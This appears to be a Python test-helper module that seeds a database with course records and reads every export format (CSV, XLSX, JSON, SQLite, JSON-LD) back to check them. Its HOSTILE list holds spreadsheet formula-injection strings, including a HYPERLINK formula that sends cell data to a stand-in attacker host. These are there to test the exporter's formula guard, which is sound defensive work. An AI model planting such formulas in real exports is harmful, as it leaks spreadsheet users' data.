"""Fill a real database with candidates, and read every export format back."""

from __future__ import annotations

import csv
import json
import sqlite3
from datetime import date, datetime
from pathlib import Path
from typing import Any

from click.testing import CliRunner, Result

from db.models import Candidate, Source
from db.session import Database
from pipeline import export
from pipeline.export import (
    BOOLEAN_COLUMNS,
    FLOAT_COLUMNS,
    INTEGER_COLUMNS,
    JSON_COLUMNS,
    LIST_COLUMNS,
    LIST_SEPARATOR,
)

# Text a spreadsheet would run (scenario 25 of RELIABILITY.md), and text that
# stresses CSV quoting.
HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Register now\")",
    "+44 20 7946 0000",
    "-2+3 minus",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "  =1+1 after spaces",
    "\"=1+1\" after a quote",
    "'=1+1 after an apostrophe",
]
AWKWARD = ["commas, \"quotes\" and\nnew lines", "tab\tinside", "émigré, ünïcödé ✓"]


def base_fields(number: int) -> dict[str, Any]:
    """A complete, benign record."""
    return {
        "title": f"Co-creation course {number}",
        "description": "A course on citizen engagement.",
        "provider": "Example University", "provider_category": "university",
        "format": "course", "modality": "online", "topics": ["co_creation", "participation"],
        "verticals": ["mobility"], "duration_text": "3 days", "duration_hours": 18.5,
        "start_date": date(2027, 5, 3), "end_date": date(2027, 5, 5),
        "trainers": ["Ana Example"], "audience": "city staff", "audience_tags": ["city_staff"],
        "fee_text": "EUR 120", "fee_amount": 120.0, "fee_currency": "EUR", "is_free": False,
        "eu_project": "CO-CITY (Horizon Europe)", "inclusivity": True,
        "inclusivity_evidence": "open to everyone", "language": "en",
        "url": f"https://example.org/course/{number}", "edition_status": "upcoming",
    }


def add_candidate(database: Database, status: str = "accepted", sources: int = 1,
                  **fields: Any) -> int:
    """One candidate with ``sources`` sources (the first one primary, with evidence)."""
    with database.transaction() as session:
        candidate = Candidate(status=status, **fields)
        session.add(candidate)
        session.flush()
        for index in range(sources):
            url = candidate.url if index == 0 else f"{candidate.url}/edition-{index}"
            source = Source(
                candidate_id=candidate.id, key=f"{url}#{candidate.id}", url=url, page_url=url,
                origin="search" if index == 0 else "Example provider", title=candidate.title,
                match_rule="new" if index == 0 else "same title",
                fields={"start_date": f"{2027 + index}-05-03", "end_date": None,
                        "fee_amount": 120.0 + index, "fee_currency": "EUR"},
                evidence={"title": {"value": candidate.title, "extractor": "jsonld",
                                    "source": "$[0].name", "confidence": 0.9}})
            session.add(source)
            session.flush()
            if index == 0:
                candidate.primary_source_id = source.id
        return candidate.id


def offermap(*args: str) -> Result:
    """The real ``offermap`` command, in this process: the command's own code from
    option parsing to exit code, without paying the interpreter's start-up per call
    (the subprocess path is covered by a test of its own)."""
    from pipeline.cli import main

    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def expected(database_url: str, statuses: tuple[str, ...] = ("accepted",),
             columns: tuple[str, ...] = export.COLUMNS, **options: bool) -> list[dict[str, Any]]:
    """What the export should hold, as JSON-like values."""
    with Database(database_url).session() as session:
        found = list(export.rows(session, statuses, **options))
    return [{name: export.plain_json(row.get(name)) for name in columns} for row in found]


# --- reading back -------------------------------------------------------------------


def typed(name: str, text: str) -> Any:
    """A CSV cell back to the JSON-like value it was written from."""
    if name in LIST_COLUMNS:
        return unprefix(text).split(LIST_SEPARATOR) if text else []
    if text == "":
        return None
    if name in JSON_COLUMNS:
        return json.loads(text)
    if name in INTEGER_COLUMNS:
        return int(text)
    if name in FLOAT_COLUMNS:
        return float(text)
    if name in BOOLEAN_COLUMNS:
        return {"true": True, "false": False}[text]
    return unprefix(text)


def unprefix(text: str) -> str:
    """Undo the documented formula guard: a leading ``'`` added by ``neutralise``."""
    if text.startswith("'") and export.neutralise(text[1:]) == text:
        return text[1:]
    return text


def read_csv(path: Path) -> list[dict[str, Any]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        found = list(csv.reader(handle))
    header = found[0]
    return [{name: typed(name, cell) for name, cell in zip(header, row, strict=True)}
            for row in found[1:]]


def read_xlsx(path: Path) -> list[dict[str, Any]]:
    from openpyxl import load_workbook

    workbook = load_workbook(path, read_only=True)
    try:
        lines = list(workbook.active.iter_rows(values_only=True))
    finally:
        workbook.close()
    header = [str(name) for name in lines[0]]
    return [{name: xlsx_value(name, value) for name, value in zip(header, line, strict=True)}
            for line in lines[1:]]


def xlsx_value(name: str, value: Any) -> Any:
    if name in LIST_COLUMNS:
        return value.split(LIST_SEPARATOR) if value else []
    if isinstance(value, datetime):
        return value.date().isoformat()
    if name in JSON_COLUMNS and value is not None:
        return json.loads(value)
    return value


def read_json(path: Path) -> list[dict[str, Any]]:
    return json.loads(path.read_text(encoding="utf-8"))


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def read_sqlite(path: Path) -> list[dict[str, Any]]:
    connection = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        cursor = connection.execute("SELECT * FROM trainings ORDER BY rowid")
        header = [column[0] for column in cursor.description]
        lines = cursor.fetchall()
    finally:
        connection.close()
    return [{name: sqlite_value(name, value) for name, value in zip(header, line, strict=True)}
            for line in lines]


def sqlite_value(name: str, value: Any) -> Any:
    if name in LIST_COLUMNS or name in JSON_COLUMNS:
        return json.loads(value) if value is not None else None
    if name in BOOLEAN_COLUMNS and value is not None:
        return bool(value)
    return value


def read_jsonld(path: Path) -> list[dict[str, Any]]:
    """The record fields a JSON-LD Course carries, mapped back to column names."""
    document = json.loads(path.read_text(encoding="utf-8"))
    assert document["@context"] == "https://schema.org"
    return [course_fields(node) for node in document["@graph"]]


def course_fields(node: dict[str, Any]) -> dict[str, Any]:
    instance = node["hasCourseInstance"][0]
    offer = instance.get("offers", {})
    modes = {mode: modality for modality, mode in export.COURSE_MODES.items()}
    return {
        "title": node["name"], "url": node["url"], "description": node.get("description"),
        "provider": node.get("provider", {}).get("name"),
        "provider_category": node.get("provider", {}).get("description"),
        "language": node.get("inLanguage"), "topics": node.get("about", []),
        "verticals": node.get("keywords", []), "is_free": node.get("isAccessibleForFree"),
        "modality": modes.get(instance.get("courseMode")),
        "start_date": instance.get("startDate"), "end_date": instance.get("endDate"),
        "trainers": [person["name"] for person in instance.get("instructor", [])],
        "fee_amount": offer.get("price"), "fee_currency": offer.get("priceCurrency"),
        "fee_text": offer.get("description"),
    }


READERS = {"csv": read_csv, "xlsx": read_xlsx, "json": read_json, "jsonl": read_jsonl,
           "sqlite": read_sqlite, "jsonld": read_jsonld}
SUFFIXES = {"csv": "csv", "xlsx": "xlsx", "json": "json", "jsonl": "jsonl",
            "sqlite": "sqlite", "jsonld": "jsonld"}


def xlsx_clean(value: Any) -> Any:
    """What XLSX keeps of a value: XML-illegal control characters are dropped (documented)."""
    if isinstance(value, str):
        return export.xlsx_text(value)
    if isinstance(value, list):
        return [xlsx_clean(item) for item in value]
    return value
